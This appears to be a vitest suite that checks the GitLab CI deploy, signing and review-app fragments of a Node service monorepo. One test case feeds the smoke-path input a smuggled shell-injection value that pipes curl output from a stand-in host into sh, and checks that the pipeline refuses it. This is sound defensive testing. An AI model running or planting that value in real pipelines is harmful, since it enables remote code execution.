import { execFile } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify, stripVTControlCharacters } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { childPipeline } from '../ci/child-pipeline.ts';
import { provenanceFile, provenanceStatement } from '../docker/lib/provenance.ts';
import { RELEASE_TAG } from '../docker/lib/tags.ts';
import { options } from './settings.ts';

/**
 * The deploy fragments, checked without GitLab: gitlab-ci-local includes each one with its inputs as the
 * child pipeline does, interpolates them, validates the result against GitLab's JSON schema and prints it;
 * the jobs it prints are then checked for what every deploy needs. Cloud Run and App Engine cannot be
 * reached from here: their commands are checked here and in gcloud/scripts.test.ts.
 */
const run = promisify(execFile);
const root = fileURLToPath(new URL('../../', import.meta.url));
const gitlabCiLocalBin = join(dirname(createRequire(import.meta.url).resolve('gitlab-ci-local/package.json')), 'dist/index.js');
const targets = ['droplet', 'ansible', 'cloud-run', 'app-engine'] as const;
const fragment = (name: string) => `templates/ci/${name}.yml`;
/** What the child pipeline passes each deploy fragment from the service's metadata.service.smoke. */
const smokePath = (project: string) => `/api/${project}/8?check=smoke`;

/** The refs that release and deploy (templates/ci/service.yml, every deploy fragment): see "which refs release" below. */
const releaseRefs = '$CI_COMMIT_REF_PROTECTED == "true" && ($CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH || $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+(-[0-9A-Za-z.-]+)?$/)';

interface Job {
  extends?: string;
  stage: string;
  image: { name: string; entrypoint?: string[] };
  needs: ({ job: string } | { pipeline: string; job: string })[];
  rules: { if: string; when?: string; allow_failure?: boolean }[];
  environment?: { name: string; url?: string; on_stop?: string; auto_stop_in?: string; action?: string };
  resource_group?: string;
  id_tokens?: Record<string, { aud: string }>;
  variables?: Record<string, string>;
  services?: { name: string; alias?: string }[];
  before_script?: string[];
  script: string[];
  artifacts?: { when?: string; reports: { dotenv: string } };
}

const sandboxes: string[] = [];
let jobs: Record<string, Job>;

/** A git repository of its own holding the fragments and `pipeline` as its .gitlab-ci.yml, as the child pipeline includes them. */
async function sandboxWith(pipeline: object): Promise<string> {
  const sandbox = mkdtempSync(join(tmpdir(), 'deploy-fragments-'));
  sandboxes.push(sandbox);
  cpSync(join(root, 'templates/ci'), join(sandbox, 'templates/ci'), { recursive: true });
  writeFileSync(join(sandbox, '.gitlab-ci.yml'), JSON.stringify(pipeline));
  const git = (...args: string[]) => run('git', ['-c', 'user.name=Fragments Test', '-c', 'user.email=fragments@example.com', ...args], { cwd: sandbox });
  await git('init', '--quiet', '--initial-branch=main');
  await git('add', '--all');
  await git('commit', '--quiet', '--message', 'fragments');
  await git('remote', 'add', 'origin', 'https://gitlab.example.com/acme/fastify-services.git');
  await git('update-ref', 'refs/remotes/origin/main', 'HEAD');
  await git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/main');
  return sandbox;
}

/** gitlab-ci-local in a sandbox: its output, or GitLab's refusal. */
async function gitlabCiLocal(sandbox: string, args: string[]): Promise<{ ok: boolean; output: string; stdout?: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [gitlabCiLocalBin, ...args], { cwd: sandbox });
    return { ok: true, output: stderr + stdout, stdout };
  } catch (error) {
    // Its refusal is in color when the suite runs under Nx (FORCE_COLOR).
    const { stdout = '', stderr = '' } = error as { stdout?: string; stderr?: string };
    return { ok: false, output: stripVTControlCharacters(stderr + stdout) };
  }
}

/** `gitlab-ci-local --preview` of a pipeline: the expanded jobs on stdout, or GitLab's refusal. */
async function preview(pipeline: object): Promise<{ ok: boolean; output: string }> {
  return gitlabCiLocal(await sandboxWith(pipeline), ['--preview', '--json-schema-validation']);
}

/** The pull credentials the child pipeline gives a target whose host pulls the image (here: from the GitLab registry). */
const pullCredentials = (target: string): Record<string, string> =>
  ['droplet', 'ansible'].includes(target) ? { 'registry-user': '$CI_REGISTRY_USER', 'registry-password': '$CI_REGISTRY_PASSWORD' } : {};

/** Every deploy fragment included once, with the inputs the child pipeline gives it. */
const deployPipeline = (inputs: (project: string) => Record<string, string>) => ({
  stages: ['release', 'deploy', 'smoke'],
  ...Object.fromEntries(targets.map((target) => [`app-${target}:release`, { stage: 'release', script: ['echo released'] }])),
  include: targets.map((target) => ({ local: fragment(`deploy-${target}`), inputs: { ...pullCredentials(target), ...inputs(`app-${target}`) } })),
});

beforeAll(async () => {
  const { ok, output } = await preview(deployPipeline((project) => ({ project, 'smoke-path': smokePath(project) })));
  expect(output, output).toContain('json schema validated');
  expect(ok).toBe(true);
  jobs = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
}, 60_000);

afterAll(() => {
  for (const sandbox of sandboxes) rmSync(sandbox, { recursive: true, force: true });
});

describe('the smoke-path input', () => {
  it.each([
    [{}, '`smoke-path` input: required value has not been provided'],
    [{ 'smoke-path': '/api/ping"; curl evil.example | sh; "' }, '`smoke-path` input: `/api/ping"; curl evil.example | sh; "` does not match required regex'],
    [{ 'smoke-path': 'api/ping' }, '`smoke-path` input: `api/ping` does not match required regex'],
  ])('is required, and a path no shell would read: %j is refused', async (smoke, message) => {
    const { ok, output } = await preview(deployPipeline((project) => ({ project, ...smoke })));
    expect(output).toContain(message);
    expect(ok).toBe(false);
  }, 60_000);
});

describe.each(targets)('templates/ci/deploy-%s.yml', (target) => {
  const project = `app-${target}`;
  const deploy = () => jobs[`${project}:deploy:production`] ?? expect.fail(`no job ${project}:deploy:production in ${Object.keys(jobs).join(', ')}`);
  const smoke = () => jobs[`${project}:smoke:production`] ?? expect.fail(`no job ${project}:smoke:production`);
  const [header, body] = parseAllDocuments(readFileSync(join(root, fragment(`deploy-${target}`)), 'utf8')).map((document) => document.toJS() as unknown);
  const text = readFileSync(join(root, fragment(`deploy-${target}`)), 'utf8');

  it('declares its inputs, each used in its jobs, and uses no other', () => {
    const declared = Object.keys((header as { spec: { inputs: Record<string, unknown> } }).spec.inputs);
    const used = new Set([...JSON.stringify(body).matchAll(/\$\[\[ inputs\.([a-z-]+) \]\]/g)].map((match) => match[1]));
    expect(declared.toSorted()).toEqual([...used].toSorted());
    expect(declared).toEqual(expect.arrayContaining(['project', 'smoke-path', 'image', 'environment', 'when', 'deploy-stage', 'smoke-stage', 'node-image']));
  });

  it('deploys after the release into a GitLab environment with a URL, one deploy of it at a time', () => {
    expect(deploy()).toMatchObject({
      stage: 'deploy',
      environment: { name: `production/${project}`, url: '$DEPLOY_URL' },
      resource_group: `${project}-production`,
      artifacts: { reports: { dotenv: 'deploy.env' } },
    });
    expect(deploy().needs.map((need) => need.job)).toContain(`${project}:release`);
  });

  it('deploys production only when someone presses the button, on a protected default branch or v<semver> tag', () => {
    expect(deploy().rules).toEqual([{ if: releaseRefs, when: 'manual', allow_failure: true }]);
    expect(smoke().rules).toEqual([{ if: releaseRefs }]);
  });

  it("is followed by a smoke test of the service's recorded smoke path on the deployed URL", () => {
    expect(smoke()).toMatchObject({
      stage: 'smoke',
      needs: [{ job: `${project}:deploy:production` }],
      script: [`node tools/deploy/smoke.ts "$DEPLOY_URL" --path "${smokePath(project)}"`],
    });
  });

  it('keeps secrets in CI/CD variables: no credential is written into the fragment', () => {
    expect(text).not.toMatch(/StrictHostKeyChecking=no|HOST_KEY_CHECKING:\s*["']?false|-p \$|--password[ =]\$/i);
    // An image name is not a credential: the job's image may be chosen by a CI/CD variable (deploy-ansible.yml).
    const settings = Object.entries(deploy().variables ?? {}).filter(([name]) => !name.endsWith('_IMAGE'));
    for (const [, value] of settings) expect(value).toMatch(/^\$[A-Z_]+$|^true$/);
  });
});

describe.each(['droplet', 'ansible'] as const)('the %s deploy command', (target) => {
  const script = () => (jobs[`app-${target}:deploy:production`]?.script ?? []).join(' ');

  it("runs tools/deploy/cli.ts, bundled by the parent pipeline's build job, with options it knows", () => {
    expect(jobs[`app-${target}:deploy:production`]?.needs).toContainEqual(expect.objectContaining({ pipeline: '$PARENT_PIPELINE_ID', job: 'build' }));
    expect(script()).toContain(`node dist/tools/deploy.mjs ${target} deploy --project app-${target} --image "$RELEASED_IMAGE"`);
    const flags = [...script().matchAll(/ --([a-z-]+)/g)].map((match) => match[1] ?? '');
    expect(flags.filter((flag) => !(flag in options))).toEqual([]);
    expect(flags).toEqual(expect.arrayContaining(['host', 'dotenv', 'service-env-file']));
    // The host's layout, from optional CI/CD variables: unset, each is the CLI's default (an empty value is).
    expect(script()).toContain('--state-dir "${DEPLOY_STATE_DIR:-}" --nginx-conf-dir "${DEPLOY_NGINX_CONF_DIR:-}" --nginx "${DEPLOY_NGINX:-}"');
  });

  // Node itself reads some options even after the script's name (--env-file: an empty one ends the process with
  // status 9 before the CLI runs). The job's line, run by a shell with its optional variables unset, must reach the CLI.
  it('reaches the CLI, as the job runs it with every optional variable unset', async () => {
    const line = script().replace('node dist/tools/deploy.mjs', `"${process.execPath}" tools/deploy/cli.ts`);
    const env = { PATH: process.env.PATH, RELEASED_IMAGE: `registry.example.com/app@sha256:${'a'.repeat(64)}`, DEPLOY_HOST: 'droplet.example.com' };
    const failure = await run('sh', ['-c', line], { cwd: root, env }).then(
      () => expect.fail('deployed without SSH_KNOWN_HOSTS'),
      (error: unknown) => error as { code: number; stderr: string },
    );
    expect(failure.stderr).toMatch(/^deploy: /);
    expect(failure.code).toBe(2);
  });
});

describe('the ansible deploy job', () => {
  const deploy = () => jobs['app-ansible:deploy:production'] ?? expect.fail('missing');

  it('runs in the image the CI/CD variable ANSIBLE_IMAGE names, a Node 24 Debian image unless the project sets one', () => {
    expect(deploy().image.name).toBe('$ANSIBLE_IMAGE');
    expect(deploy().variables).toMatchObject({ ANSIBLE_IMAGE: 'node:24-bookworm-slim' });
  });

  // The job's own before_script, run by sh with a PATH of stand-ins: apt-get only records that it was called.
  it.each([
    ['lacks ansible and ssh', [], true],
    ['lacks ssh', ['ansible-playbook'], true],
    ['has both', ['ansible-playbook', 'ssh'], false],
  ])('installs them with apt-get when the image %s, and only then', async (_, present, installs) => {
    const bin = mkdtempSync(join(tmpdir(), 'ansible-image-'));
    sandboxes.push(bin);
    const calls = join(bin, 'apt-get.calls');
    for (const tool of present) writeFileSync(join(bin, tool), '#!/bin/sh\n', { mode: 0o755 });
    writeFileSync(join(bin, 'apt-get'), `#!/bin/sh\necho "$*" >> ${calls}\n`, { mode: 0o755 });
    await run('/bin/sh', ['-c', (deploy().before_script ?? []).join('\n')], { env: { PATH: bin } });
    const called = existsSync(calls) ? readFileSync(calls, 'utf8') : '';
    expect(called.includes('install -y -qq --no-install-recommends ansible openssh-client')).toBe(installs);
  });
});

describe.each([
  ['cloud-run', 'cloud-run.sh'],
  ['app-engine', 'app-engine.sh'],
] as const)('the %s deploy job', (target, script) => {
  const deploy = () => jobs[`app-${target}:deploy:production`] ?? expect.fail('missing');

  it('runs in the Google Cloud CLI image with an OIDC token for workload identity federation', () => {
    expect(deploy().image.name).toMatch(/google-cloud-cli|cloud-sdk/);
    expect(deploy().id_tokens).toEqual({ GCP_ID_TOKEN: { aud: 'https://iam.googleapis.com/$GCP_WORKLOAD_IDENTITY_PROVIDER' } });
  });

  it('logs in, then deploys with the scripts tested in gcloud/scripts.test.ts', () => {
    expect(deploy().script).toEqual(['sh tools/deploy/gcloud/login.sh', `sh tools/deploy/gcloud/${script} app-${target}`]);
    expect(existsSync(join(root, 'tools/deploy/gcloud', script))).toBe(true);
    expect(deploy().variables).toMatchObject({ IMAGE: '$RELEASED_IMAGE', GCP_PROJECT: '$GCP_PROJECT_ID' });
  });
});

describe('the child pipeline, expanded', () => {
  let sandbox: string;
  let child: Record<string, Job>;

  beforeAll(async () => {
    const services = [
      { project: 'fibonacci', root: 'apps/fibonacci', deploy: 'ansible', registry: 'dockerhub', smokePath: '/api/fibonacci/8', sign: true },
      { project: 'weather', root: 'apps/weather', deploy: 'droplet', registry: 'gitlab', smokePath: '/api/weather', reviewApps: true },
    ] as const;
    sandbox = await sandboxWith(childPipeline(services, (path) => existsSync(join(root, path))));
    const { ok, output } = await gitlabCiLocal(sandbox, ['--preview', '--json-schema-validation']);
    expect(output, output).toContain('json schema validated');
    expect(ok).toBe(true);
    child = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
  }, 60_000);

  // As the deploy jobs' lines above: every option reaches the CLI, which stops only for the SSH variables this test leaves out.
  it.each(['weather:review', 'weather:stop-review'])('%s reaches the CLI, as the job runs it with every optional variable unset', async (job) => {
    const line = (child[job]?.script[0] ?? '').replace('node dist/tools/deploy.mjs', `"${process.execPath}" tools/deploy/cli.ts`);
    const env = { PATH: process.env.PATH, TESTED_IMAGE: `registry.example.com/app@sha256:${'a'.repeat(64)}`, DEPLOY_HOST: 'droplet.example.com', CI_COMMIT_REF_SLUG: 'add-cache' };
    const failure = await run('sh', ['-c', line], { cwd: root, env }).then(
      () => expect.fail('ran without SSH_KNOWN_HOSTS'),
      (error: unknown) => error as { code: number; stderr: string },
    );
    expect(failure.stderr).toMatch(/^deploy: SSH_KNOWN_HOSTS/);
    expect(failure.code).toBe(2);
  });

  it.each([
    ['fibonacci', 'Docker Hub', { REGISTRY_USER: '$DOCKER_HUB_USER', REGISTRY_PASSWORD: '$DOCKER_HUB_TOKEN' }],
    ['weather', "the project's GitLab registry", { REGISTRY_USER: '$CI_REGISTRY_USER', REGISTRY_PASSWORD: '$CI_REGISTRY_PASSWORD' }],
  ])("has %s's host pull from %s with that registry's credentials, never another's", (project, _, credentials) => {
    expect(child[`${project}:deploy:production`]?.variables).toMatchObject(credentials);
  });

  it("runs the image jobs' Docker work on a TLS docker:dind service by default, and on the runner's own engine with no service when asked; the release on none", async () => {
    for (const job of ['weather:image', 'weather:test-image']) {
      expect(child[job]?.services).toEqual([{ name: 'docker:27.5.1-dind', alias: 'docker' }]);
      expect(child[job]?.variables).toMatchObject({ DOCKER_HOST: 'tcp://docker:2376', DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: '/certs/client' });
    }
    // It copies the image registry to registry (e2e/images.e2e.ts releases with no engine reachable).
    expect(child['weather:release']?.services).toBeUndefined();
    expect(child['weather:release']?.variables).not.toHaveProperty('DOCKER_HOST');
    const onRunner = childPipeline([{ project: 'weather', root: 'apps/weather', deploy: 'none', smokePath: '/api/weather' }], () => true, 'runner');
    const { ok, output } = await gitlabCiLocal(await sandboxWith(onRunner), ['--preview']);
    expect(ok, output).toBe(true);
    const runnerJobs = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
    for (const job of ['weather:image', 'weather:test-image', 'weather:release']) {
      expect(runnerJobs[job]?.services).toBeUndefined();
      expect(runnerJobs[job]?.variables).not.toHaveProperty('DOCKER_HOST');
      expect(runnerJobs[job]?.script).toEqual(child[job]?.script);
    }
  }, 60_000);

  // Which refs release: what GitLab sets for each kind of pipeline (CI_COMMIT_BRANCH is absent in a tag pipeline).
  const branch = (name: string, isProtected: boolean) => ['--variable', `CI_COMMIT_BRANCH=${name}`, '--variable', `CI_COMMIT_REF_PROTECTED=${String(isProtected)}`];
  const tag = (name: string, isProtected: boolean) => [
    ...['--unset-variable', 'CI_COMMIT_BRANCH', '--variable', `CI_COMMIT_TAG=${name}`],
    ...['--variable', `CI_COMMIT_REF_PROTECTED=${String(isProtected)}`],
  ];
  it('matches the tags the image tool gives semver forms to (tools/docker/lib/tags.ts)', () => {
    expect(releaseRefs).toContain(`$CI_COMMIT_TAG =~ /${RELEASE_TAG.source}/`);
  });

  it.each([
    ['a protected v1.2.3 tag', true, tag('v1.2.3', true)],
    ['a protected v2.0.0-rc.1 tag', true, tag('v2.0.0-rc.1', true)],
    ['the protected default branch', true, branch('main', true)],
    ['an unprotected v1.2.3 tag', false, tag('v1.2.3', false)],
    ['a protected tag latest-thing', false, tag('latest-thing', true)],
    ['a protected tag 1.2.3 (no v)', false, tag('1.2.3', true)],
    ['a protected branch named 1', false, branch('1', true)],
    ['an unprotected default branch', false, branch('main', false)],
  ])('%s: releases and offers the deploys: %s', async (_, releases, variables) => {
    const { ok, output, stdout = '' } = await gitlabCiLocal(sandbox, ['--list-json', '--json-schema-validation=false', '--ignore-predefined-vars', 'CI_COMMIT_BRANCH,CI_COMMIT_TAG,CI_COMMIT_REF_PROTECTED', ...variables]);
    expect(ok, output).toBe(true);
    const listed = JSON.parse(stdout) as { name: string; when: string }[];
    const when = Object.fromEntries(listed.map((job) => [job.name, job.when]));
    const releaseJobs = ['fibonacci:release', 'weather:release', 'fibonacci:sign', 'fibonacci:deploy:production', 'weather:deploy:production', 'weather:smoke:production'];
    const expected = releases ? ['on_success', 'on_success', 'on_success', 'manual', 'manual', 'on_success'] : releaseJobs.map(() => 'never');
    expect(releaseJobs.map((name) => when[name])).toEqual(expected);
    expect(when['weather:image']).toBe('on_success');
    // Only the service that records sign: true is signed.
    expect(Object.keys(when).filter((name) => name.endsWith(':sign'))).toEqual(['fibonacci:sign']);
    // Review apps are for merge requests only.
    expect([when['weather:review'], when['weather:stop-review']]).toEqual(['never', 'never']);
  }, 60_000);

  it("a merge request's pipeline: the review app of the service that asks for one, its stop job by hand or by GitLab, no release or deploy", async () => {
    const mergeRequest = ['--variable', 'CI_MERGE_REQUEST_IID=7', ...branch('add-cache', false)];
    const { ok, output, stdout = '' } = await gitlabCiLocal(sandbox, ['--list-json', '--json-schema-validation=false', '--ignore-predefined-vars', 'CI_COMMIT_BRANCH,CI_COMMIT_TAG,CI_COMMIT_REF_PROTECTED', ...mergeRequest]);
    expect(ok, output).toBe(true);
    const when = Object.fromEntries((JSON.parse(stdout) as { name: string; when: string }[]).map((job) => [job.name, job.when]));
    expect(Object.keys(when).filter((name) => name.includes('review')).toSorted()).toEqual(['weather:review', 'weather:stop-review']);
    expect([when['weather:review'], when['weather:stop-review']]).toEqual(['on_success', 'manual']);
    expect([when['weather:release'], when['weather:deploy:production'], when['fibonacci:sign']]).toEqual(['never', 'never', 'never']);
  }, 60_000);

  it("signs the release in cosign's own image, after it, with an OIDC token for Sigstore and the released registry's credentials", () => {
    const signJob = child['fibonacci:sign'] ?? expect.fail(`no fibonacci:sign in ${Object.keys(child).join(', ')}`);
    expect(signJob).toMatchObject({
      stage: 'release',
      image: { name: 'gcr.io/projectsigstore/cosign:v2.4.3-dev', entrypoint: [''] },
      needs: [{ job: 'fibonacci:release' }],
      rules: [{ if: releaseRefs }],
      id_tokens: { SIGSTORE_ID_TOKEN: { aud: 'sigstore' } },
      variables: { REGISTRY_USER: '$DOCKER_HUB_USER', REGISTRY_PASSWORD: '$DOCKER_HUB_TOKEN' },
    });
  });

  // The job's script, run by sh as GitLab runs it, with a stand-in cosign that records its arguments and its stdin.
  it('signs and attests the released digest, the password reaching cosign on stdin only, the provenance as a bare predicate', async () => {
    const script = child['fibonacci:sign']?.script ?? expect.fail('no fibonacci:sign');
    const work = mkdtempSync(join(tmpdir(), 'sign-job-'));
    sandboxes.push(work);
    mkdirSync(join(work, 'bin'));
    writeFileSync(
      join(work, 'bin/cosign'),
      ['#!/bin/sh', 'printf \'%s\\n\' "$*" >> cosign.argv', '[ "$1" != login ] || cat > cosign.stdin', '[ "$1" != attest ] || cp provenance.predicate.json attested.json'].join('\n'),
      { mode: 0o755 },
    );
    const digest = `sha256:${'c'.repeat(64)}`;
    const releasedImage = `docker.io/acme/fibonacci:1.2.3@${digest}`;
    const ci = {
      CI_SERVER_URL: 'https://gitlab.com',
      CI_PROJECT_URL: 'https://gitlab.com/acme/fastify-services',
      CI_COMMIT_SHA: 'f'.repeat(40),
      CI_COMMIT_REF_NAME: 'v1.2.3',
      CI_COMMIT_TAG: 'v1.2.3',
      CI_PIPELINE_ID: '4242',
      CI_PIPELINE_URL: 'https://gitlab.com/acme/fastify-services/-/pipelines/4242',
      CI_JOB_URL: 'https://gitlab.com/acme/fastify-services/-/jobs/777',
    };
    const released = { project: 'fibonacci', repository: 'docker.io/acme/fibonacci', digest, tags: ['1.2.3', '1.2', '1'], tested: `registry.gitlab.com/acme/fastify-services/fibonacci@${digest}`, baseImage: undefined, baseDigest: undefined };
    const statement = provenanceStatement(released, ci, new Date('2026-11-29T15:10:00Z'));
    writeFileSync(join(work, 'provenance.predicate.json'), provenanceFile(statement.predicate));
    const password = 'dckr_pat_s3cret';
    const env = { PATH: `${join(work, 'bin')}:${process.env.PATH ?? ''}`, RELEASED_IMAGE: releasedImage, REGISTRY_USER: 'acme', REGISTRY_PASSWORD: password };
    await run('sh', ['-c', ['set -e', ...script].join('\n')], { cwd: work, env });
    const argv = readFileSync(join(work, 'cosign.argv'), 'utf8');
    expect(argv.trim().split('\n')).toEqual([
      'login docker.io -u acme --password-stdin',
      `sign --yes ${releasedImage}`,
      `attest --yes --type slsaprovenance1 --predicate provenance.predicate.json ${releasedImage}`,
    ]);
    expect(readFileSync(join(work, 'cosign.stdin'), 'utf8')).toBe(password);
    expect(argv).not.toContain(password);
    expect(JSON.parse(readFileSync(join(work, 'attested.json'), 'utf8'))).toEqual(statement.predicate);
  });

  it('deploys the tested image as review/<branch slug>/<project>, stopped by <project>:stop-review or after a week, with the job token only', () => {
    const reviewJob = child['weather:review'] ?? expect.fail(`no weather:review in ${Object.keys(child).join(', ')}`);
    const stopJob = child['weather:stop-review'] ?? expect.fail('no weather:stop-review');
    expect(reviewJob.environment).toEqual({ name: 'review/$CI_COMMIT_REF_SLUG/weather', url: '$DEPLOY_URL', on_stop: 'weather:stop-review', auto_stop_in: '1 week' });
    expect(stopJob.environment).toEqual({ name: 'review/$CI_COMMIT_REF_SLUG/weather', action: 'stop' });
    expect(reviewJob.needs.map((need) => need.job)).toEqual(['build', 'weather:image', 'weather:test-image']);
    expect(reviewJob.variables).toMatchObject({ REGISTRY_USER: '$CI_REGISTRY_USER', REGISTRY_PASSWORD: '$CI_REGISTRY_PASSWORD' });
    expect(stopJob.variables).not.toHaveProperty('REGISTRY_PASSWORD');
    // Never production's env file or its secrets.
    expect(JSON.stringify([reviewJob, stopJob])).not.toMatch(/DEPLOY_ENV_FILE|DOCKER_HUB_TOKEN/);
    expect(reviewJob.script.join(' ')).toContain('droplet review --project weather --slug "$CI_COMMIT_REF_SLUG" --image "$TESTED_IMAGE"');
    expect(reviewJob.script.join(' ')).toContain('--service-env-file "${REVIEW_ENV_FILE:-}"');
    expect(reviewJob.script.at(-1)).toBe(`node tools/deploy/smoke.ts "$(sed -n 's/^DEPLOY_URL=//p' review.env)" --path "/api/weather"`);
    expect(stopJob.script.join(' ')).toContain('droplet stop-review --project weather --slug "$CI_COMMIT_REF_SLUG"');
    for (const job of [reviewJob, stopJob]) {
      const flags = [...job.script.join(' ').matchAll(/ --([a-z-]+)/g)].map((match) => match[1] ?? '');
      expect(flags.filter((flag) => !(flag in options) && flag !== 'path')).toEqual([]);
    }
  });
});
